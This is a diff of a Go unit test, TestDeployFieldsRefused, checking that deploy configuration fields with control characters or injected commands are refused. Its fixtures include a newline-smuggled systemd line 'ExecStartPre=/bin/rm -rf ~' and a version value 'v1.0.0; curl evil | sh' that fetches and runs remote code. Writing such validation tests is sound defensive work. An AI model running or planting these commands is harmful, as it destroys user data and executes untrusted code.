@@ -18,7 +18,8 @@ func TestDeployFieldsRefused(t *testing.T) {
 	for _, tc := range []struct {
 		old, new, field, why string
 	}{
-		{"github: {}", `github: {}, systemd: dir: "deploy\nExecStartPre=/bin/rm -rf ~"`, "deploy.systemd.dir", "control character U+000A"},
+		{"github: {}", `github: {}, systemd: dir: "deploy\nExecStartPre=/bin/rm -rf ~"}
+agents: s: {deploy: engines: ["systemd"]`, "deploy.systemd.dir", "control character U+000A"},
 		{k8s, k8s + `, dir: "k8s\r"`, "deploy.kubernetes.dir", "control character U+000D"},
 		{"github: {}", `github: dir: "wf\u2028"`, "deploy.github.dir", "control character U+2028"},
 		{"github: {}", `github: actctl: "v1.0.0; curl evil | sh"`, "deploy.github.actctl", "not a version"},
